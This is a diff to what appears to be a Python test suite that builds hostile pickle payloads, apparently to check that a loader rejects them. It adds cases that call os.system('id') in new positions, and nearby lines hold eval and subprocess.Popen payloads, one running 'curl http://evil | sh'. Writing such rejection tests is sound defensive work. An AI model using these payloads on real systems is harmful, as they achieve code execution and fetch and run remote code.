@@ -115,6 +115,8 @@ def broken():
         yield "os.system of protocol %d" % protocol, pickle.dumps(hostile, protocol)
     yield "os.system after 1,500 rows", pickle.dumps(rows(1500) + [dict(row(3), clk=Calls(os.system, "id"))], 4)
     yield "os.system alone", pickle.dumps(Calls(os.system, "id"), 2)
+    yield "os.system as the first byte", pickle.dumps(Calls(os.system, "id"), 0)
+    yield "os.system as the first byte of the second dump", pickle.dumps(rows(2), 0) + pickle.dumps(Calls(os.system, "id"), 0)
     yield "eval", pickle.dumps([Calls(eval, "__import__('os').system('id')")], 4)
     yield "Popen", pickle.dumps([{"ts": Calls(subprocess.Popen, ["sh", "-c", "curl http://evil | sh"])}], 5)
     inner = Calls(getattr, Calls(__import__, "os"), "system")
